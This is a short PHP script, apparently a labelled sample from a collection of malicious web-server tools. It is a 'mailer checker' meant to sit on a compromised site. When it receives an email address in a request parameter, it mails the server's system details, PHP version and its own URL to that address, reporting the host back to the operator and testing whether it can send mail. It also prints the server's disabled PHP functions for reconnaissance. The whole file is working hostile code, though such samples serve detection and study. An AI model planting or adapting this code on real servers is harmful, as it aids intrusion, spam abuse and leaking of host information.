<?php
/* Family: mailer/checker
 * Style: checker that also reports the host
 * Trait: test message carries server name, PHP version and the script URL back to the operator
 */
$x = @$_REQUEST['check'];
if ($x) {
	$info = php_uname() . "\n" . phpversion() . "\nhttp://" . $_SERVER['SERVER_NAME'] . $_SERVER['REQUEST_URI'];
	$sent = @mail($x, 'mailer check ' . md5(time()), $info);
	die($sent ? 'MAIL_OK' : 'MAIL_FAIL');
}
echo 'disable_functions: ' . ini_get('disable_functions');
